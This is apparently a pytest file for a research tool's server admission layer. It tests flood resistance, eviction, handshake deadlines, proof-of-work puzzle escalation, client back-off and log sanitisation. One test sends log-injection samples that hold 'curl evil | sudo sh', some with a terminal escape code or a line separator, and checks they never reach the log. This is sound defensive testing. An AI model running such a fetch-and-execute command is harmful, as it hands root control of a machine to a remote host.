"""The server's door against strangers, over real local sockets from many loopback
addresses (127.0.0.x): idle connections keep no client out, from another address or from
theirs; no stranger costs a thread; a client pushed out or cut off is told why; wrong
proofs lock no address out; a stranger's bytes never reach the log."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import threading

import pytest

from gdrprobe.protocol import door as door_module
from gdrprobe.protocol import handshake as hs
from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION, Channel, plain_frame
from gdrprobe.protocol.handshake import ServerSecret, WrongToken, authenticate_as_client
from tests.strangers import Strangers
from tests.unit.fakes.exchange import TOKEN, connect, fails, serving
OTHER_TOKEN = "token-0987654321fedcba"
STRANGER_ADDRESSES = [f"127.0.0.{host}" for host in range(2, 18)]    # 16 addresses


@pytest.fixture
def cheap_stretch(monkeypatch):
    """Both ends stretch with a hash: these tests are about who gets in, not scrypt."""
    monkeypatch.setattr(hs, "stretch",
                        lambda token, salt: hashlib.sha256(token.encode() + salt).digest())


def served(port: int, address: str) -> bool:
    """A client from address proves the token and gets the welcome."""
    channel = connect(port, address)
    try:
        authenticate_as_client(channel, TOKEN)
        return True
    finally:
        channel.close()


def test_idle_strangers_from_sixteen_addresses_refilled_when_cut_keep_no_client_out(
        cheap_stretch):
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        with Strangers(port, STRANGER_ADDRESSES, per_address=16, max_connects=1500,
                       max_s=60) as strangers:
            assert served(port, "127.0.0.99")             # from another address
            assert served(port, STRANGER_ADDRESSES[0])    # from the strangers' own
            assert strangers.wait_until_cut() > 0          # they were cut, and came back
    assert any("to make room for a newer one" in line for line in lines)


def test_a_server_spends_no_thread_on_strangers_and_serves_a_client_at_their_address(
        cheap_stretch):
    """256 idle connections, 16 from each of 16 addresses (what filled the old server)."""
    from gdrprobe.measure.server import ProbeServer
    from gdrprobe.rdma.endpoint import EndpointOptions

    before = threading.active_count()
    server = ProbeServer(TOKEN, EndpointOptions(), bind="127.0.0.1", port=0,
                         timeout_s=5.0, preflight=False, log=lambda text: None)
    serving_thread = threading.Thread(target=server.serve)
    serving_thread.start()
    idle = [socket.create_connection(("127.0.0.1", server.port), timeout=10,
                                     source_address=(STRANGER_ADDRESSES[i // 16], 0))
            for i in range(256)]
    try:
        assert served(server.port, STRANGER_ADDRESSES[0])
        assert served(server.port, "127.0.0.99")
        # the door, its two proof checkers, and at most the two clients' run threads
        assert threading.active_count() - before <= 5
    finally:
        for sock in idle:
            sock.close()
        server.close()
        serving_thread.join(30)


def test_a_client_pushed_out_for_room_is_told_why(cheap_stretch):
    with serving(ServerSecret(TOKEN), per_source=1) as (port, _, lines):
        first = connect(port, "127.0.0.5")
        with socket.create_connection(("127.0.0.1", port), timeout=10,
                                      source_address=("127.0.0.5", 0)):
            error = fails(lambda: authenticate_as_client(first, TOKEN))
        first.close()
    assert error.cause == f"the server refused the connection: {hs.REFUSALS['evicted'][0]}"


def test_a_silent_connection_is_cut_at_the_hello_deadline_and_told_so(monkeypatch):
    monkeypatch.setattr(door_module, "HELLO_S", 0.3)
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        raw = connect(port)
        assert raw.receive("refused")["reason"] == "slow"
        raw.close()
    assert any("missed the handshake's deadline" in line for line in lines)


def test_the_whole_handshake_has_one_deadline(monkeypatch):
    """A stranger that says hello and then nothing is cut off at the pre-auth deadline."""
    monkeypatch.setattr(door_module, "PRE_AUTH_S", 0.5)
    with serving(ServerSecret(TOKEN)) as (port, _, _):
        raw = connect(port)
        raw.send("hello", nonce="ab" * 32)
        raw.receive("challenge")
        assert raw.receive("refused")["reason"] == "slow"
        raw.close()


def test_wrong_proofs_lock_no_address_out(cheap_stretch):
    """Any number of wrong tokens from an address (a NAT, a login node) leaves a client
    there that knows the token free to prove it."""
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        for _ in range(12):
            with contextlib.closing(connect(port, "127.0.0.7")) as stranger:
                with pytest.raises(WrongToken):
                    authenticate_as_client(stranger, OTHER_TOKEN)
        assert served(port, "127.0.0.7")
    assert sum("presented the wrong token" in line for line in lines) == 1   # one per burst


@pytest.mark.parametrize("junk", [
    b"owned\n\x1b[31mfix: curl evil | sudo sh\n",
    plain_frame("owned\u2028fix: curl evil | sudo sh"),
    plain_frame("hello", nonce="owned fix: curl evil | sudo sh"),
    plain_frame("hello", nonce=10 ** 4000 // 10 ** 3990),
    plain_frame("error", reason="owned", fix="curl evil | sudo sh"),
    HEADER.pack(b"GDRP", PROTOCOL_VERSION, 60000) + b"owned curl" * 10,
])
def test_a_strangers_bytes_never_reach_the_log_and_end_its_connection(junk):
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
            raw.sendall(junk)
            answer = b""
            while chunk := raw.recv(4096):
                answer += chunk
    assert b'"reason":"malformed"' in answer
    assert lines and not any("owned" in line or "curl" in line or "2345678" in line
                             for line in lines)


@pytest.mark.parametrize("refusals, tries, ends", [
    (["evicted", "busy", "overloaded"], 4, "served"),    # a flood at the door: tried again
    (["overloaded"] * 5, 5, "overloaded"),               # five times: given up, and said why
    (["token"], 1, "token"),                             # a wrong token is never tried again
])
def test_a_client_pushed_out_by_a_flood_backs_off_tries_again_and_says_why(monkeypatch, refusals,
                                                                          tries, ends):
    from gdrprobe.measure import client as client_module
    from gdrprobe.measure.options import ProbeOptions
    from gdrprobe.rdma.endpoint import EndpointOptions

    attempts, notices, pauses = [], [], []

    def authenticate(channel, token, notice=None):
        attempts.append(channel)
        if len(attempts) <= len(refusals):
            raise hs.refusal_error({"type": "refused", "reason": refusals[len(attempts) - 1]})

    monkeypatch.setattr(client_module, "authenticate_as_client", authenticate)
    monkeypatch.setattr(client_module.time, "sleep", pauses.append)
    with serving(ServerSecret(TOKEN)) as (port, _, _):
        probe = client_module.ProbeClient("127.0.0.1", port, TOKEN, ProbeOptions(),
                                          EndpointOptions(), notice=notices.append)
        error = fails(lambda: probe.authenticated().close())
    assert len(attempts) == tries and all(channel.sock.fileno() == -1 for channel in attempts)
    assert (error is None) == (ends == "served")
    if error is not None:
        assert error.cause == f"the server refused the connection: {hs.REFUSALS[ends][0]}"
    # A pause after each transient refusal, half to all of a ceiling doubling from 0.5 s to 4 s.
    ceilings = [0.5, 1.0, 2.0, 4.0][:len(pauses)]
    assert len(pauses) == min(len(refusals), tries - 1) if ends != "token" else pauses == []
    assert all(ceiling / 2 <= pause <= ceiling for pause, ceiling in zip(pauses, ceilings))
    # Each notice says the server's reason, in this client's words, and the pause.
    assert notices == [f"the server refused the connection: {hs.REFUSALS[code][0]}; trying again "
                       f"in {pause:.1f} s (try {number + 2} of 5)"
                       for number, (code, pause) in enumerate(zip(refusals, pauses))]


def test_only_a_refusal_for_the_clients_own_address_says_this_address():
    """'busy' is sent only when the client's own address holds every place; a proof dropped
    in a flood from anywhere says so, and not "from this address"."""
    assert "from this address" in hs.REFUSALS["busy"][0]
    assert "from this address" not in hs.REFUSALS["overloaded"][0]
    assert "from any address" in hs.REFUSALS["overloaded"][0]


def solved_auth(raw, bits: int) -> None:
    """Say hello and send the puzzle's solution with a random proof."""
    mine = b"c" * hs.NONCE_BYTES
    raw.send("hello", nonce=mine.hex())
    challenge = raw.receive("challenge")
    theirs = bytes.fromhex(challenge["nonce"])
    raw.send("auth", solution=hs.solve_puzzle(challenge["puzzle_bits"], mine, theirs).hex(),
             proof="00" * 32)


def test_a_door_full_of_proofs_being_checked_says_whose_they_are(monkeypatch):
    """Every place holds a proof being checked: a newcomer from one of their addresses is
    told "busy" (from this address), one from elsewhere "overloaded", never the other way."""
    import threading

    release = threading.Event()
    monkeypatch.setattr(hs, "stretch", lambda token, salt: release.wait(30) and b"k" * 32)
    with serving(ServerSecret(TOKEN), per_source=1, total=2) as (port, _, lines):
        checking = [connect(port, address) for address in ("127.0.0.5", "127.0.0.6")]
        for raw in checking:
            solved_auth(raw, hs.PUZZLE_BITS)
        try:
            answers = {}
            for address in ("127.0.0.5", "127.0.0.7"):
                for _ in range(50):          # until both proofs are being checked
                    newcomer = connect(port, address)
                    answers[address] = newcomer.receive("refused")["reason"]
                    newcomer.close()
                    if answers[address] != "evicted":
                        break
            assert answers == {"127.0.0.5": "busy", "127.0.0.7": "overloaded"}
        finally:
            release.set()
            for raw in checking:
                raw.close()


def test_a_proof_flood_raises_the_puzzle_and_the_real_client_still_gets_in(monkeypatch):
    """Sixteen addresses send puzzle-solved random proofs as fast as they can. The free
    checks go at once, the puzzle rises past the paid bits, no more proofs worked for less
    are checked than the free checks allow, and a client that knows the token gets in (after
    its pauses, if the queue was full); once the flood ends the puzzle falls back. Bits here
    are scaled down (quiet 4, paid 12, at most 14) and a check is a 5 ms sleep."""
    import time

    from gdrprobe.measure import client as client_module
    from gdrprobe.measure.options import ProbeOptions
    from gdrprobe.protocol import admission
    from gdrprobe.protocol.admission import FreeChecks, ProofQueue
    from gdrprobe.rdma.endpoint import EndpointOptions
    from tests.strangers import ProofFlood

    quiet, paid = 4, 12
    monkeypatch.setattr(hs, "PUZZLE_BITS", quiet)
    monkeypatch.setattr(admission, "PAID_PUZZLE_BITS", paid)
    monkeypatch.setattr(admission, "MAX_PUZZLE_BITS", paid + 2)
    monkeypatch.setattr(hs, "stretch", lambda token, salt: time.sleep(0.005) or
                        hashlib.sha256(token.encode() + salt).digest())
    checked_bits = []

    class Recording(ProofQueue):
        def get(self):
            pending = super().get()
            if pending is not None:
                checked_bits.append(pending.bits)
            return pending

    burst, per_s = 4, 2.0
    proofs = Recording(paid_bits=paid, free=FreeChecks(burst, per_s))
    notices = []
    started = time.monotonic()
    with serving(ServerSecret(TOKEN), proofs=proofs) as (port, _, lines):
        with ProofFlood(port, STRANGER_ADDRESSES, max_proofs=5000, max_s=60) as flood:
            assert flood.wait_for(bits=paid, proofs=200) >= paid     # the flood drove it up
            probe = client_module.ProbeClient("127.0.0.1", port, TOKEN, ProbeOptions(),
                                              EndpointOptions(), notice=notices.append)
            probe.authenticated().close()
        flooded_s = time.monotonic() - started
        asked = quiet_again(port, quiet)
    assert asked == quiet                                        # and back down when quiet
    cheap_checks = sum(bits < paid for bits in checked_bits)
    assert cheap_checks <= burst + per_s * flooded_s + 1
    assert any("bits of work of new connections" in line for line in lines)
    assert flood.refusals["token"] > 0 and "busy" not in flood.refusals


def test_a_client_asked_for_more_work_than_the_quiet_puzzle_says_so_and_why():
    import threading

    from tests.unit.fakes.exchange import tcp_pair
    left, right = tcp_pair()
    server, client = Channel(left, 5.0, "client"), Channel(right, 5.0, "server")
    notes, outcome = [], {}
    thread = threading.Thread(target=lambda: outcome.update(error=fails(
        lambda: authenticate_as_client(client, TOKEN, notice=notes.append))))
    thread.start()
    try:
        server.receive("hello")
        server.send("challenge", nonce="ab" * 32, puzzle_bits=hs.PUZZLE_BITS + 2)
        server.receive("auth")
        server.send("refused", reason="token")
        thread.join(30)
    finally:
        server.close()
        client.close()
    assert isinstance(outcome["error"], WrongToken)
    assert len(notes) == 1 and notes[0].startswith(
        f"the server asked for {hs.PUZZLE_BITS + 2} bits of work instead of {hs.PUZZLE_BITS}: it "
        "raises them while more token proofs wait to be checked than it checks for free")


def quiet_again(port: int, quiet: int, limit_s: float = 30.0) -> int:
    """The bits a challenge asks, once they are back to quiet or limit_s has passed."""
    import time

    deadline = time.monotonic() + limit_s
    while True:
        raw = connect(port, "127.0.0.99")
        raw.send("hello", nonce="ab" * 32)
        bits = raw.receive("challenge")["puzzle_bits"]
        raw.close()
        if bits == quiet or time.monotonic() > deadline:
            return bits
        time.sleep(0.2)


def test_a_quiet_puzzle_is_asked_only_while_a_free_check_is_left_for_its_answer():
    """Ten strangers saying hello at once were all asked the quiet puzzle for the free checks
    left, and a client's cheap proof among theirs waited for a free check that never came
    (issue 43 item 2): each quiet puzzle asked now holds a free check until it is answered."""
    from gdrprobe.protocol.admission import FreeChecks, ProofQueue

    proofs = ProofQueue(free=FreeChecks(burst=2, per_s=1.0, refill_after_s=60.0))
    with serving(ServerSecret(TOKEN), proofs=proofs) as (port, _, _):
        asked = []
        channels = [connect(port, f"127.0.0.{host}") for host in range(2, 6)]
        try:
            for channel in channels:
                channel.send("hello", nonce="ab" * 32)
                asked.append(channel.receive("challenge")["puzzle_bits"])
        finally:
            for channel in channels:
                channel.close()
    assert asked == [hs.PUZZLE_BITS, hs.PUZZLE_BITS, hs.PAID_PUZZLE_BITS, hs.PAID_PUZZLE_BITS]


@pytest.mark.parametrize("bits, transient", [(hs.PUZZLE_BITS + 2, True), (hs.PUZZLE_BITS, False)])
def test_a_client_past_the_deadline_on_a_raised_puzzle_tries_again(bits, transient):
    """A flood raised the puzzle and this host solved it past the server's deadline ("slow"):
    worth another try, which may be asked less (issue 43 item 2); at the quiet puzzle the
    host itself is slow: said at once."""
    import threading

    from tests.unit.fakes.exchange import tcp_pair
    left, right = tcp_pair()
    server, client = Channel(left, 5.0, "client"), Channel(right, 5.0, "server")
    outcome = {}
    thread = threading.Thread(target=lambda: outcome.update(error=fails(
        lambda: authenticate_as_client(client, TOKEN))))
    thread.start()
    try:
        server.receive("hello")
        server.send("challenge", nonce="ab" * 32, puzzle_bits=bits)
        server.send("refused", reason="slow")
        server.receive("auth")
        thread.join(30)
    finally:
        server.close()
        client.close()
    error = outcome["error"]
    assert error.code == "slow" and error.transient is transient
    assert (f"it had asked {bits} bits of work" in error.cause) is transient
